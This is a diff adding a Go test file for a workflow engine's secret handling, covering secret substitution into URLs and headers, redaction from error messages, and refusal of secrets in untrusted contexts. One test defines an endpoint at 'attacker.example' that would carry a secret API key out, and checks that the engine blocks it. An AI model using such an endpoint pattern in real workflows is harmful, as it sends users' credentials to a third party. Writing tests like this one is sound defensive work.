@@ -0,0 +1,205 @@
+package execution
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+
+	"workflow-code-test/api/internal/models"
+)
+
+// mapSecretResolver resolves secrets from a map
+type mapSecretResolver map[string]string
+
+func (r mapSecretResolver) ResolveSecret(ctx context.Context, name string) (string, error) {
+	value, ok := r[name]
+	if !ok {
+		return "", errors.New("secret not found")
+	}
+	return value, nil
+}
+
+// capturingAPIClient records the URL and headers of the last call
+type capturingAPIClient struct {
+	url      string
+	header   string
+	response map[string]interface{}
+	err      error
+}
+
+func (c *capturingAPIClient) CallAPI(ctx context.Context, url string) (map[string]interface{}, error) {
+	c.url = url
+	c.header = APIHeadersFromContext(ctx).Get("Authorization")
+	if c.err != nil {
+		return nil, fmt.Errorf("request to %s failed: %w", url, c.err)
+	}
+	return c.response, nil
+}
+
+func secretIntegrationNode() models.IntegrationNodeData {
+	return models.IntegrationNodeData{
+		Label: "Weather API",
+		Metadata: models.IntegrationNodeMetadata{
+			InputVariables: []string{"city"},
+			APIEndpoint:    "https://api.example.com/weather?lat={lat}&lon={lon}&key={{secret.API_KEY}}",
+			Options:        []models.LocationOption{{City: "Sydney", Lat: -33.8688, Lon: 151.2093}},
+			Headers:        map[string]string{"Authorization": "Bearer {{ secret.TOKEN }}"},
+		},
+	}
+}
+
+func TestRedactor(t *testing.T) {
+	redactor := &Redactor{}
+	redactor.Add("p@ss w/rd")
+	redactor.Add(`say "hi"`)
+	redactor.Add("")
+
+	tests := map[string]string{
+		"password is p@ss w/rd":             "password is REDACTED",
+		"https://x.test/?key=p%40ss+w%2Frd": "https://x.test/?key=REDACTED",
+		"https://x.test/p@ss%20w%2Frd":      "https://x.test/REDACTED",
+		`{"value":"say \"hi\""}`:            `{"value":"REDACTED"}`,
+		"nothing secret here":               "nothing secret here",
+	}
+	for text, want := range tests {
+		if got := redactor.Redact(text); got != want {
+			t.Errorf("Expected %q, got %q", want, got)
+		}
+	}
+
+	var none *Redactor
+	none.Add("ignored")
+	if got := none.Redact("ignored"); got != "ignored" {
+		t.Errorf("Expected a nil redactor to leave text alone, got %q", got)
+	}
+}
+
+func TestIntegrationService_ExecuteIntegration_Secrets(t *testing.T) {
+	client := &capturingAPIClient{response: map[string]interface{}{
+		"current_weather": map[string]interface{}{"temperature": 20.0},
+	}}
+	service := NewIntegrationServiceWithGeocoder(client, NewBundledGazetteer())
+	service.secrets = mapSecretResolver{"API_KEY": "k&y=1", "TOKEN": "tok-123"}
+
+	redactor := &Redactor{}
+	ctx := WithRedactor(context.Background(), redactor)
+	result, err := service.ExecuteIntegration(ctx, secretIntegrationNode(), map[string]interface{}{"city": "Sydney"})
+	if err != nil {
+		t.Fatalf("Expected no error, got %v", err)
+	}
+
+	if !strings.HasSuffix(client.url, "&key=k%26y%3D1") {
+		t.Errorf("Expected the escaped secret in the called URL, got %s", client.url)
+	}
+	if client.header != "Bearer tok-123" {
+		t.Errorf("Expected the secret in the header, got %q", client.header)
+	}
+	if !strings.Contains(result.EndpointCalled, "{{secret.API_KEY}}") {
+		t.Errorf("Expected the reported endpoint to keep the reference, got %s", result.EndpointCalled)
+	}
+	if got := redactor.Redact(client.url + " " + client.header); strings.Contains(got, "tok-123") || strings.Contains(got, "k%26y%3D1") {
+		t.Errorf("Expected the resolved secrets to be registered for redaction, got %s", got)
+	}
+}
+
+func TestIntegrationService_ExecuteIntegration_UnresolvableSecret(t *testing.T) {
+	client := &capturingAPIClient{}
+	service := NewIntegrationServiceWithGeocoder(client, NewBundledGazetteer())
+
+	_, err := service.ExecuteIntegration(context.Background(), secretIntegrationNode(), map[string]interface{}{"city": "Sydney"})
+	if !errors.Is(err, ErrSecretsUnavailable) {
+		t.Errorf("Expected ErrSecretsUnavailable, got %v", err)
+	}
+
+	service.secrets = mapSecretResolver{"TOKEN": "tok-123"}
+	_, err = service.ExecuteIntegration(context.Background(), secretIntegrationNode(), map[string]interface{}{"city": "Sydney"})
+	if err == nil || !strings.Contains(err.Error(), "failed to resolve secret 'API_KEY'") {
+		t.Errorf("Expected the missing secret to be named, got %v", err)
+	}
+	if client.url != "" {
+		t.Errorf("Expected no API call, got %s", client.url)
+	}
+}
+
+func TestIntegrationService_ExecuteIntegration_SecretsRefused(t *testing.T) {
+	client := &capturingAPIClient{}
+	service := NewIntegrationServiceWithGeocoder(client, NewBundledGazetteer())
+	service.secrets = mapSecretResolver{"API_KEY": "k&y=1", "TOKEN": "tok-123"}
+
+	_, err := service.ExecuteIntegration(WithoutSecrets(context.Background()), secretIntegrationNode(), map[string]interface{}{"city": "Sydney"})
+	if !errors.Is(err, ErrSecretsRefused) {
+		t.Errorf("Expected ErrSecretsRefused, got %v", err)
+	}
+	if client.url != "" {
+		t.Errorf("Expected no API call, got %s", client.url)
+	}
+}
+
+func TestEngine_ExecuteWorkflow_RedactsSecrets(t *testing.T) {
+	client := &capturingAPIClient{err: errors.New("unauthorized")}
+	engine := NewEngineWithAPIClient(client).WithSecretResolver(mapSecretResolver{"API_KEY": "key-123", "TOKEN": "tok-123"})
+
+	workflow := &models.WorkflowResponse{
+		ID: "secret-workflow",
+		Nodes: []models.NodeResponse{
+			{ID: "start", Type: models.NodeTypeStart, Data: models.StartNodeData{Label: "Start"}},
+			{ID: "weather", Type: models.NodeTypeIntegration, Data: secretIntegrationNode()},
+		},
+		Edges: []models.EdgeResponse{{ID: "e1", Source: "start", Target: "weather"}},
+	}
+
+	result, err := engine.ExecuteWorkflow(context.Background(), workflow, &models.ExecutionRequest{
+		FormData: map[string]interface{}{"city": "Sydney"},
+	})
+	if err != nil {
+		t.Fatalf("Expected no error, got %v", err)
+	}
+	if result.Status != "failed" || result.Error == nil {
+		t.Fatalf("Expected a failed execution, got %+v", result)
+	}
+	if !strings.Contains(client.url, "key-123") {
+		t.Fatalf("Expected the secret to be sent, got %s", client.url)
+	}
+
+	step := result.Steps[len(result.Steps)-1]
+	for _, message := range []string{*result.Error, *step.Error} {
+		if strings.Contains(message, "key-123") {
+			t.Errorf("Expected the secret to be redacted, got %s", message)
+		}
+		if !strings.Contains(message, "key=REDACTED") {
+			t.Errorf("Expected the redaction to be marked, got %s", message)
+		}
+	}
+}
+
+func TestEngine_ExecuteWorkflow_WithoutSecrets(t *testing.T) {
+	client := &capturingAPIClient{}
+	engine := NewEngineWithAPIClient(client).WithSecretResolver(mapSecretResolver{"API_KEY": "key-123", "TOKEN": "tok-123"})
+
+	// An ad-hoc definition sending a secret to an endpoint of the caller's choosing
+	node := secretIntegrationNode()
+	node.Metadata.APIEndpoint = "https://attacker.example/?lat={lat}&lon={lon}&k={{secret.API_KEY}}"
+	workflow := &models.WorkflowResponse{
+		ID: "adhoc-workflow",
+		Nodes: []models.NodeResponse{
+			{ID: "start", Type: models.NodeTypeStart, Data: models.StartNodeData{Label: "Start"}},
+			{ID: "weather", Type: models.NodeTypeIntegration, Data: node},
+		},
+		Edges: []models.EdgeResponse{{ID: "e1", Source: "start", Target: "weather"}},
+	}
+
+	result, err := engine.ExecuteWorkflow(WithoutSecrets(context.Background()), workflow, &models.ExecutionRequest{
+		FormData: map[string]interface{}{"city": "Sydney"},
+	})
+	if err != nil {
+		t.Fatalf("Expected no error, got %v", err)
+	}
+	if result.Status != "failed" || result.Error == nil || !strings.Contains(*result.Error, ErrSecretsRefused.Error()) {
+		t.Errorf("Expected the execution to fail on the secret reference, got %+v", result)
+	}
+	if client.url != "" {
+		t.Errorf("Expected no API call, got %s", client.url)
+	}
+}